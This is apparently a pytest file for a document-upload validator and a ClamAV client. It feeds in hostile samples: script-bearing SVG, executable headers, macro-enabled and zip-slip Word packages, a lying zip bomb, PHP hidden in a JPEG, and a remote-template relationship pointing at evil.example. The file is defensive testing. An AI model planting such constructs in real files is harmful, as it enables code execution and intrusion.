"""What a file is: plain ones are taken, whatever they are called; what is two things at once, packed tightly or a program is not."""

import io
import struct
import zipfile

import pytest
from PIL import Image

from core import scanning, uploads
from core.errors import Invalid
from core.scanning import ScannerAway, Verdict
from tests.fakes.clamd import EICAR, running

PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"
TYPES = (
    b'<?xml version="1.0"?><Types><Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
MACROS = TYPES.replace(b"openxmlformats-officedocument.wordprocessingml.document.main", b"ms-word.document.macroEnabled.main")
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
ELSEWHERE = (
    b'<Relationships><Relationship Type="x/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
)
LINK = b'<Relationships><Relationship Type="x/hyperlink" Target="https://nhs.uk/" TargetMode="External"/></Relationships>'


def packed(parts: dict[str, bytes], *, stored: tuple[str, ...] = ()) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name, data in parts.items():
            file.writestr(name, data, zipfile.ZIP_STORED if name in stored else None)
    return out.getvalue()


def word(**more: bytes) -> bytes:
    return packed({"[Content_Types].xml": TYPES, "word/document.xml": b"<w:document/>", **more})


ODT = packed({"mimetype": uploads.OPEN_TEXT.encode(), "content.xml": b"<office:document-content/>"}, stored=("mimetype",))


def image(form: str, **options) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), "red").save(out, form, **options)
    return out.getvalue()


@pytest.mark.parametrize(
    ("data", "suffix"),
    [
        (PDF, "pdf"), (image("PNG"), "png"), (image("JPEG"), "jpg"), (word(), "docx"),
        (word(**{"word/_rels/document.xml.rels": LINK}), "docx"),
        (ODT, "odt"), ("Dear colleague,\r\n\twe saw her – again.\n".encode(), "txt"),
    ],
)  # fmt: skip
def test_plain_files_are_taken_by_what_is_in_them(data, suffix):
    assert uploads.document(data).suffix == suffix


def bomb() -> bytes:
    """Unpacks to more than a tenth of a gigabyte, and says so."""
    return word(**{"word/media/big.bin2": bytes(uploads.MOST_UNPACKED + 1)})


def lying_bomb() -> bytes:
    """The same, but its list of contents says that the part is small."""
    data = bytearray(bomb())
    big = uploads.MOST_UNPACKED + 1
    for found in (data.find(struct.pack("<I", big)), data.rfind(struct.pack("<I", big))):
        data[found : found + 4] = struct.pack("<I", 1)
    return bytes(data)


@pytest.mark.parametrize(
    "data",
    [
        SVG, b"<!DOCTYPE html><p>Hello", b"Dear all, <script>alert(1)</script>", b"MZ\x90\0program", b"\x7fELF", b"{\\rtf1\x00}",
        b"GIF89a" + bytes(30), EICAR + b"\0", b"\xff\xfe\x00",
        PDF + word(), PDF + b"<script>", b"\n" + PDF, b"%PDF-1.7 cut off",
        b"GIF89a" + word(), word() + b"<script>", word()[:-30], packed({"a.txt": b"x"}),
        packed({"[Content_Types].xml": MACROS, "word/document.xml": b"x"}), word(**{"word/vbaProject.bin": b"x"}),
        word(**{"word/_rels/settings.xml.rels": ELSEWHERE}), word(**{"../../etc/passwd": b"x"}),
        packed({"mimetype": uploads.OPEN_TEXT.encode(), "content.xml": b"x", "Basic/Standard/Module1.xml": b"x"}, stored=("mimetype",)),
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + (60_000).to_bytes(4, "big") * 2 + b"\x08\x02\0\0\0", image("JPEG")[:60],
    ],
)  # fmt: skip
@pytest.mark.req("R093")
def test_hostile_files_are_refused_with_words(data):
    with pytest.raises(Invalid) as refused:
        uploads.document(data)
    assert refused.value.details["field"] == "file"


@pytest.mark.parametrize("make", [bomb, lying_bomb])
def test_a_bomb_is_refused_before_it_fills_anything(make, monkeypatch):
    monkeypatch.setattr(uploads, "MOST_UNPACKED", 1_000_000)
    with pytest.raises(Invalid):
        uploads.document(make())


def test_a_picture_is_painted_anew_so_that_nothing_hides_in_it():
    exif = Image.Exif()
    exif[0x010E] = "Canary description"
    sent = image("JPEG", exif=exif.tobytes()) + b"<?php Canary(); ?>" + word()
    kept = uploads.document(sent).data
    assert b"Canary" in sent
    assert b"Canary" not in kept
    assert b"PK" not in kept[-100:]


# --- the scanner


def test_the_scanner_is_asked_by_clamds_protocol(settings):
    with running() as clamd:
        settings.SCANNER = clamd.address
        scanner = scanning.scanner()
        assert scanner is not None
        long = bytes(range(256)) * 600  # more than one block
        assert scanner.scan(io.BytesIO(long)) == Verdict("")
        assert scanner.scan(io.BytesIO(b"letter " + EICAR)).finding == "Eicar-Test-Signature"
        assert clamd.seen[0] == long
        clamd.largest = 1_000
        with pytest.raises(ScannerAway):
            scanner.scan(io.BytesIO(long))
        clamd.sulks = True
        with pytest.raises(ScannerAway):
            scanner.scan(io.BytesIO(b"x"))
    with pytest.raises(ScannerAway):
        scanner.scan(io.BytesIO(b"x"))


def test_without_a_scanner_there_is_none(settings):
    settings.SCANNER = ""
    assert scanning.scanner() is None
